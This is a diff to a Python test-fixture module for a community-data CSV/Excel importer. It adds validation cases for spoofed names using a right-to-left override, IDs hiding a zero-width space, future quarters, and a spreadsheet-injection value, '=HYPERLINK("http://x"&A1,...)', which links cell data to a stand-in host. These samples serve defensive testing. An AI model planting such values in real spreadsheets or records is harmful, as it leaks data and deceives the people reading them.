@@ -9,6 +9,7 @@ tests (import a bad file: the data is unchanged; a good one: exactly these rows 
 
 from __future__ import annotations
 
+import csv
 import io
 import random
 import zipfile
@@ -74,6 +75,20 @@ def csv_bytes(
     return ("\r\n".join(lines) + "\r\n").encode(encoding)
 
 
+def csv_quoted(header: list[Any], rows: list[list[Any]]) -> bytes:
+    """A CSV as Excel writes one: a cell holding a comma or a quote is quoted."""
+    buffer = io.StringIO(newline="")
+    csv.writer(buffer, lineterminator="\r\n").writerows([header, *rows])
+    return buffer.getvalue().encode("utf-8")
+
+
+def next_quarter() -> date:
+    """The first day of the quarter after today's: a quarter that has not begun."""
+    today = date.today()
+    index = today.year * 4 + (today.month - 1) // 3 + 1
+    return date(index // 4, 3 * (index % 4) + 1, 1)
+
+
 def xlsx_bytes(
     sheets: dict[str, list[list[Any]]],
     formats: dict[tuple[str, int, int], str] | None = None,
@@ -125,6 +140,20 @@ def _with(row: list[Any], index: int, value: Any) -> list[Any]:
     out = list(row)
     out[index] = value
     return out
+
+
+COMMUNITY_NAMES = [c.name for c in TABLES_BY_NAME["communities"].columns]
+# A community the fixture lacks (it has C01 甲社区, C02 乙社区, V01 丙村).
+NEW_COMMUNITY = ["C03", "丁社区", "Ding", "社区", 2009, 800, 300, 20000.0, "P01"]
+
+
+def _communities(rows: list[list[Any]]) -> bytes:
+    return csv_quoted(COMMUNITY_NAMES, rows)
+
+
+def community_row(row: list[Any]) -> dict[str, Any]:
+    """A communities row as the reader types it."""
+    return dict(zip(COMMUNITY_NAMES, row, strict=True))
 
 
 ACTIVITY_NAMES = [c.name for c in TABLES_BY_NAME["activities"].columns]
@@ -446,6 +475,43 @@ def bad_files() -> dict[str, BadCase]:
             "environment_score",
             "不是百分比列",
         ),
+        "excel_percent_in_score": BadCase(
+            "outcomes.xlsx",
+            xlsx_bytes(
+                {"outcomes": [OUTCOME_NAMES, _with(GOOD_OUTCOME, 6, 0.913)]},
+                formats={("outcomes", 2, 7): "0.0%"},
+            ),
+            "outcomes",
+            2,
+            "environment_score",
+            "不是百分比列",
+        ),
+        # a name that shows as another community's: U+202E turns 区社乙 into 乙社区
+        "bidi_name": BadCase(
+            "communities.csv",
+            _communities([_with(NEW_COMMUNITY, 1, "\u202e区社乙")]),
+            "communities",
+            2,
+            "name_zh",
+            "含不可见字符 U+202E（从右至左覆盖）",
+        ),
+        # a second community that looks exactly like C02
+        "zero_width_id": BadCase(
+            "communities.csv",
+            _communities([["C02\u200b", "乙社区", "Yi", "社区", 2008, 3000, 1000, 60000.0, "P02"]]),
+            "communities",
+            2,
+            "community_id",
+            "含不可见字符 U+200B（零宽空格）",
+        ),
+        "future_quarter": BadCase(
+            "outcomes.csv",
+            _outcomes([_with(GOOD_OUTCOME, 1, next_quarter().isoformat())]),
+            "outcomes",
+            2,
+            "quarter",
+            "尚未开始",
+        ),
         "bad_boolean": BadCase(
             "mediations.csv",
             csv_bytes(
@@ -576,6 +642,8 @@ def good_files() -> dict[str, GoodCase]:
         ["A11", "C01", "2011年9月15日", "文化中心", "体育", "无", 35],
     ]
     pct_rows = [zh, [*GOOD_OUTCOME[:9], 0.913]]
+    harbour_c09 = ["C09", "海港社区", "Haigang", "社区", 2010, 900, 350, 21000.0, "P02"]
+    formula = '=HYPERLINK("http://x"&A1,"点我")'
     cases = {
         "gbk_chinese_headers": GoodCase(
             "三降四升成效指标.csv",
@@ -684,6 +752,32 @@ def good_files() -> dict[str, GoodCase]:
                 ]
             ],
             [2, 3, 4],
+        ),
+        # two ids under one name: accepted once the clerk accepts the warnings
+        "duplicate_names": GoodCase(
+            "communities.csv",
+            _communities([_with(NEW_COMMUNITY, 1, "海港社区"), harbour_c09]),
+            "communities",
+            [community_row(_with(NEW_COMMUNITY, 1, "海港社区")), community_row(harbour_c09)],
+            [2, 3],
+            warnings=("同名",),
+        ),
+        # text, whatever it looks like: kept as written (exports neutralise it)
+        "formula_name": GoodCase(
+            "communities.csv",
+            _communities([_with(NEW_COMMUNITY, 1, formula)]),
+            "communities",
+            [community_row(_with(NEW_COMMUNITY, 1, formula))],
+            [2],
+        ),
+        # 2021 typed for 2011: accepted once the clerk accepts the warning
+        "typo_quarter": GoodCase(
+            "outcomes.csv",
+            _outcomes([_with(GOOD_OUTCOME, 1, "2021-10-01")]),
+            "outcomes",
+            [{**expected_c01, "quarter": date(2021, 10, 1)}],
+            [2],
+            warnings=("是否录入有误",),
         ),
         "template_filled": GoodCase(
             "template.xlsx",
